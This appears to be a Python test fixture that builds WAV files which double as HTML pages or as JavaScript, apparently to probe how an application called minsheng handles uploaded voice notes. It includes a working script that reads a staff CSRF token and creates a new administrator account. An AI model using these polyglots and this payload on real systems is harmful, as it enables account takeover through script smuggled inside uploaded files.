"""Recordings that are also web pages or scripts, built as an attacker would build them.

Both are valid WAV files (8-bit PCM, 16 kHz, one second of a quiet tone) that minsheng accepts as
voice notes. ``html_wav`` carries an HTML page in an extra chunk; ``script_wav`` is also valid
JavaScript: its RIFF size bytes open a ``/*`` comment that a last chunk closes before the script.
"""

from __future__ import annotations

import math
import struct

RATE = 16_000


def _tone(seconds: float = 1.0) -> bytes:
    """8-bit unsigned PCM kept in 0x40..0xC0, so it never holds the bytes of ``*/`` (0x2A, 0x2F)."""
    n = int(RATE * seconds)
    return bytes(128 + int(40 * math.sin(2 * math.pi * 440 * i / RATE)) for i in range(n))


def _chunk(tag: bytes, body: bytes) -> bytes:
    pad = b"\x00" if len(body) % 2 else b""
    return tag + struct.pack("<I", len(body)) + body + pad


_FMT = _chunk(b"fmt ", struct.pack("<HHIIHH", 1, 1, RATE, RATE, 1, 8))


def html_wav(html: str) -> bytes:
    """A WAV whose ``html`` chunk, before the sound, is a page a browser renders if told it is HTML."""
    body = b"WAVE" + _FMT + _chunk(b"html", html.encode()) + _chunk(b"data", _tone())
    return b"RIFF" + struct.pack("<I", len(body)) + body


def script_wav(script: str) -> bytes:
    """A WAV that is also JavaScript: ``RIFF/*<header and sound>*/=0;<script>//<spaces>``.

    The RIFF size field holds the bytes ``/*`` and the file is padded to exactly that size, so it
    stays a well-formed WAV.
    """
    size_field = b"/*\x01\x00"
    total = struct.unpack("<I", size_field)[0] + 8
    head = b"RIFF" + size_field + b"WAVE" + _FMT + _chunk(b"data", _tone())
    code = f"*/=0;{script};//".encode()
    assert b"*/" not in head and b"\n" not in code
    room = total - len(head) - 8  # the last chunk's header
    assert room >= len(code)
    last = code + b" " * (room - len(code))  # odd-sized: no pad byte, the file ends here
    return head + b"junk" + struct.pack("<I", len(last)) + last


def take_over_script(username: str) -> str:
    """What the probe's script did: make a new administrator with the reader's staff session."""
    return (
        "(async()=>{const p=await(await fetch('/staff/accounts')).text();"
        'const t=p.match(/name="csrf_token" value="([^"]*)"/)[1];'
        f"const f=new URLSearchParams({{csrf_token:t,username:'{username}',"
        "password:'taken-over-by-a-wav-file',display_name:'x',roles:'admin'});"
        "await fetch('/staff/accounts',{method:'POST',body:f});document.title='taken';})()"
    )
